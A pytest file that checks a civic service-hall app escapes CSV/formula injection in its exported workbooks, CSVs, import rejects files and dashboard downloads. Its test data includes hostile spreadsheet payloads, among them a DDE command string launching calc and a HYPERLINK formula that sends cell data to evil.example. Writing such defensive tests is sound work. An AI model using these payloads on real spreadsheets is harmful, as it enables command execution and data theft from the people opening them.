"""Text stays text in every workbook and CSV file the app writes (OWASP CSV injection).

Citizens' comments such as `=cmd|' /C calc'!A0` or `=HYPERLINK(…)` are written by every writer
— the weekly report's workbook, `hall export` (.csv and .xlsx), the rejects file of an import,
the pages' CSV downloads — and each file is read back: no workbook cell is a formula, every CSV
field a spreadsheet would evaluate starts with an apostrophe, and an exported CSV imports back
to the same text.
"""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import io
import re
from pathlib import Path

import openpyxl
import polars as pl
import pytest
import sqlalchemy as sa

from cli.main import main
from imports.export import export_table
from imports.importer import import_file
from queries import schema
from queries.db import init_schema, make_engine
from reports import cells

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?d="&A1,"点这里查看")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["很好", "等了 -5 分钟? 不", "a=b", "100"]


def _csv_fields(data: bytes | str) -> list[list[str]]:
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def _assert_csv_safe(rows: list[list[str]], expected: list[str]) -> None:
    """No field starts with what a spreadsheet evaluates; each hostile value is there,
    apostrophe first."""
    fields = [f for row in rows for f in row]
    for f in fields:
        if re.fullmatch(r"-\d+(\.\d+)?", f):
            continue  # a negative number written as a number
        assert not f.startswith(cells.FORMULA_START), f"field would be evaluated: {f!r}"
    for value in expected:
        assert "'" + value in fields, f"{value!r} not written as text"


def _assert_workbook_text(wb: openpyxl.Workbook, expected: list[str]) -> None:
    seen = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    seen.append(cell.value)
    for value in expected:
        assert value in seen, f"{value!r} not kept as it was"


# --- the helper ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "written"),
    [(v, "'" + v) for v in HOSTILE] + [(v, v) for v in HARMLESS] + [(-5, -5), (None, None)],
)
def test_csv_text_escapes_what_a_spreadsheet_evaluates(value, written):
    assert cells.csv_text(value) == written


def test_csv_safe_touches_text_columns_only_and_import_undoes_it():
    frame = pl.DataFrame({"comment": [*HOSTILE, *HARMLESS, None], "n": list(range(-1, 11))})
    safe = cells.csv_safe(frame)
    assert safe["n"].to_list() == frame["n"].to_list()  # a negative number stays a number
    assert safe["comment"].to_list() == [cells.csv_text(v) for v in frame["comment"]]
    back = safe.select(cells.csv_unescape(pl.col("comment")))["comment"]
    assert back.to_list() == frame["comment"].to_list()
    _assert_csv_safe(_csv_fields(cells.csv_bytes(frame)), HOSTILE)


# --- the weekly report's workbook --------------------------------------------------------------


def _run(*argv: str) -> tuple[int, str]:
    err = io.StringIO()
    with contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(err):
        code = main(list(argv))
    return code, err.getvalue()


@pytest.fixture(scope="module")
def hostile_demo(tmp_path_factory: pytest.TempPathFactory) -> str:
    """A week of demo data whose bad reviews' comments and notes are hostile."""
    from simulation.demo import DemoOptions
    from simulation.writer import write_demo

    url = f"sqlite:///{tmp_path_factory.mktemp('cells') / 'hall.db'}"
    engine = make_engine(url)
    write_demo(engine, DemoOptions(end=dt.date(2026, 11, 22), days=7))
    ev = schema.evaluations
    with engine.begin() as conn:
        bad = conn.execute(
            sa.select(ev.c.eval_id)
            .where(ev.c.hall_id == "H01", ev.c.rating <= 2)
            .order_by(ev.c.eval_id)
        ).scalars()
        bad = list(bad)
        assert len(bad) >= len(HOSTILE)
        for i, eval_id in enumerate(bad):
            conn.execute(
                ev.update()
                .where(ev.c.eval_id == eval_id)
                .values(
                    comment=HOSTILE[i % len(HOSTILE)],
                    rectification_note=HOSTILE[(i + 1) % len(HOSTILE)],
                )
            )
    engine.dispose()
    return url


def test_weekly_workbook_writes_comments_as_text(hostile_demo: str, tmp_path: Path):
    code, err = _run(
        "report", "weekly", "--db", hostile_demo, "--week", "2026-W47", "--hall", "H01",
        "--out", str(tmp_path),
    )  # fmt: skip
    assert code == 0, err
    wb = openpyxl.load_workbook(tmp_path / "H01-2026-W47.xlsx")
    _assert_workbook_text(wb, [v for v in HOSTILE if not v.startswith(("\t", "\r"))])
    bad = wb["差评跟踪"]
    comments = [bad.cell(r, 9).value for r in range(5, bad.max_row + 1)]
    assert "=cmd|' /C calc'!A0" in comments


# --- hall export, import back, and the rejects file ----------------------------------------------


def _hostile_evaluations(engine) -> list[dict]:
    init_schema(engine)
    rows = [
        {
            "eval_id": f"E{i}",
            "hall_id": "H01",
            "evaluated_at": dt.datetime(2026, 3, 2, 9, i),
            "rating": 1,
            "channel": "sms",
            "is_default": False,
            "comment": value,
            "rectification_note": HOSTILE[(i + 1) % len(HOSTILE)],
        }
        for i, value in enumerate(HOSTILE)
    ]
    with engine.begin() as conn:
        conn.execute(schema.halls.insert(), [{"hall_id": "H01", "name": "@市民中心"}])
        conn.execute(schema.evaluations.insert(), rows)
    return rows


def _comments(engine) -> dict[str, tuple]:
    ev = schema.evaluations
    with engine.connect() as conn:
        rows = conn.execute(sa.select(ev.c.eval_id, ev.c.comment, ev.c.rectification_note))
        return {r.eval_id: (r.comment, r.rectification_note) for r in rows}


def test_export_writes_text_as_text_and_imports_back(engine, tmp_path: Path):
    rows = _hostile_evaluations(engine)
    before = _comments(engine)
    out_csv, out_xlsx = tmp_path / "evaluations.csv", tmp_path / "evaluations.xlsx"
    code, err = _run("export", "evaluations", "--db", engine.url.render_as_string(False),
                     "--out", str(out_csv))  # fmt: skip
    assert code == 0, err
    export_table(engine, "evaluations", out_xlsx)
    export_table(engine, "halls", tmp_path / "halls.csv")

    _assert_csv_safe(_csv_fields(out_csv.read_bytes()), HOSTILE)
    _assert_csv_safe(_csv_fields((tmp_path / "halls.csv").read_bytes()), ["@市民中心"])
    # XML keeps no bare carriage return: "\r=1+1" comes back as "\n=1+1", still text
    _assert_workbook_text(openpyxl.load_workbook(out_xlsx), [v for v in HOSTILE if v[0] != "\r"])

    for source in (out_csv, out_xlsx):  # both files import back to exactly the same text
        with engine.begin() as conn:
            conn.execute(schema.evaluations.delete())
        report = import_file(engine, "evaluations", source)
        assert report.committed and report.rejected == 0, report.summary_lines()
        after = _comments(engine)
        if source == out_csv:
            assert after == before
        else:  # a workbook cell's leading tab or CR is whitespace the importer strips
            strip = {k: tuple(v.lstrip("\t\r\n") for v in vs) for k, vs in before.items()}
            assert {k: tuple(v.lstrip("\t\r\n") for v in vs) for k, vs in after.items()} == strip
            assert after["E0"] == before["E0"] and after["E1"] == before["E1"]
    assert len(after) == len(rows)


def test_rejects_file_writes_text_as_text(engine, tmp_path: Path):
    _hostile_evaluations(engine)
    source = tmp_path / "bad.csv"
    with source.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["eval_id", "hall_id", "evaluated_at", "rating", "channel", "comment"])
        for i, value in enumerate(HOSTILE):  # a rating of 9 is rejected
            w.writerow([f"R{i}", "H01", "2026-03-03 10:00:00", "9", "sms", value])
    rejects = tmp_path / "rejects.csv"
    report = import_file(engine, "evaluations", source, skip_bad=True, rejects=rejects)
    assert report.rejected == len(HOSTILE)
    rows = _csv_fields(rejects.read_bytes())
    # the importer strips a field's surrounding whitespace only when it reads the value; the
    # rejects file keeps the row as it came, so "\t=1+1" is there, escaped
    _assert_csv_safe(rows, HOSTILE)


def test_pages_write_csv_only_through_the_helper():
    """Every CSV the pages offer is escaped by `cells.csv_safe` (in widgets.scoped_csv)."""
    root = Path(__file__).resolve().parent.parent / "dashboard"
    direct = [
        f"{p.relative_to(root.parent)}: {line.strip()}"
        for p in root.rglob("*.py")
        for line in p.read_text(encoding="utf-8").splitlines()
        if ".write_csv(" in line and "csv_safe(" not in line
    ]
    assert direct == []


def test_page_downloads_write_text_as_text():
    from access.scope import Scope
    from dashboard.widgets import scoped_csv

    frame = pl.DataFrame({"评价内容": HOSTILE, "评分": [1] * len(HOSTILE)})
    rows = _csv_fields(scoped_csv(frame, Scope.everything("test"), "zh"))
    _assert_csv_safe(rows[1:], HOSTILE)  # after the line naming the scope
